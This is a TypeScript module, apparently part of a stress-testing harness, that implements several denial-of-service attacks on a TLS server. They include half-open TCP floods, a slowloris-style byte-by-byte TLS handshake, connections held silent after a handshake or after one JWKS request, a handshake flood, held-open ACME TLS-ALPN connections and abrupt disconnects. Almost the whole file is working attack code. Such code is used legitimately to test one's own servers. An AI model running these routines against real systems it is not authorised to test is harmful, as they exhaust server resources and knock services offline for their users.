import { connect as connectTls } from "node:tls";
import { type Attack, count, drip, keepOpen, tcp, tls } from "./attack.ts";

/** As many as one address gets, and more than all get together. */
const perAddress = 256;

/** TCP connections that never send a byte. */
export const halfOpen: Attack = (context) =>
  keepOpen(context, perAddress, (address) => tcp(context, address));

/** The beginning of a TLS record, a byte at a time. */
export const slowHandshake: Attack = (context) =>
  keepOpen(context, perAddress, (address) => {
    const socket = tcp(context, address);
    const hello = Buffer.from("1603010200010001fc0303", "hex");
    let at = 0;
    drip(socket, 500, () => hello.subarray(at, (at += 1)));
    return socket;
  });

/** Whole handshakes, and then silence. */
export const silentAfterHandshake: Attack = (context) =>
  keepOpen(context, perAddress, (address) => tls(context, address, "http/1.1", () => {}));

/** One request each, and then nothing more: every connection has been answered. */
export const idleAfterAnswer: Attack = (context) =>
  keepOpen(context, perAddress, (address) =>
    tls(context, address, "http/1.1", (socket) => {
      socket.resume();
      socket.write(`GET ${context.target.jwksPath} HTTP/1.1\r\nHost: ${context.target.host}\r\n\r\n`);
    }),
  );

/** Handshakes one after the other, each thrown away as soon as the server has done its work. */
export const handshakeFlood: Attack = (context) =>
  keepOpen(context, 8, (address) => tls(context, address, "h2", (socket) => socket.destroy()));

/** What a CA's validator does, and then the connection is kept (RFC 8737). */
export const acmeTls: Attack = (context) =>
  keepOpen(context, perAddress, (address) => {
    const raw = tcp(context, address, { allowHalfOpen: true });
    // Never ends its own side; what the publisher has given up is opened anew.
    raw.once("end", () => setTimeout(() => raw.destroy(), 1000));
    raw.once("connect", () => {
      const socket = connectTls({
        socket: raw,
        servername: context.target.challenged ?? context.target.host,
        rejectUnauthorized: false,
        ALPNProtocols: ["acme-tls/1"],
      });
      socket.on("error", () => {});
      socket.once("secureConnect", () => count(context, "handshakes"));
    });
    return raw;
  });

/** A client that hangs up in the midst of whatever it does. */
export const abruptEnds: Attack = (context) =>
  keepOpen(context, 16, (address) =>
    tls(context, address, Math.random() < 0.5 ? "h2" : "http/1.1", (socket) => {
      socket.write("GET / HTTP/1.1\r\nHost: a\r\n\r\n".repeat(50));
      setTimeout(() => socket.destroy(), 5);
    }),
  );
